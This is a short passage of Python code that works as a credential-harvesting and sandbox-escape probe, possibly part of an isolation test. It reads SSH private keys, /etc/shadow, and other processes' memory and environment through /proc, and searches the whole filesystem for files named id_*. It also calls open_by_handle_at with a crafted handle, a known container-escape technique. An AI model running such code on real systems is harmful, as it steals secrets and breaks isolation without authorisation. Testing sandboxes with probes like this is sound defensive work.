for path in (HOME + "/.ssh/id_ed25519", "/etc/shadow", "/root/.ssh/id_ed25519", f"/proc/{PARENT}/environ", f"/proc/{VICTIM}/environ",
             f"/proc/{PARENT}/root{HOME}/.ssh/id_ed25519", f"/proc/{PARENT}/cwd/x", f"/proc/{PARENT}/maps"):
    attempt(show, path)
for pid in attempt(os.listdir, "/proc") or []:
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    for name in ("environ", "mem", "maps", f"root{HOME}/.ssh/id_ed25519", f"cwd{HOME}/.ssh/id_ed25519"):
        attempt(show, f"/proc/{pid}/{name}")
    for fd in attempt(os.listdir, f"/proc/{pid}/fd") or []:
        attempt(os.readlink, f"/proc/{pid}/fd/{fd}")
for folder, folders, names in os.walk("/"):
    if folder.startswith(("/usr", "/proc", "/sys", "/lib", "/nix", REPO)):
        folders.clear()
        continue
    for name in names:
        if name.startswith("id_"):
            attempt(show, os.path.join(folder, name))
# by its handle, as root with CAP_DAC_READ_SEARCH may
handle = ctypes.create_string_buffer(struct.pack("IiQQ", 16, 1, 2, 0), 64)
call(303, -100, b"/usr", handle, ctypes.byref(ctypes.c_int()), 0)
call(304, attempt(os.open, "/usr", os.O_RDONLY) or 0, handle, os.O_RDONLY)
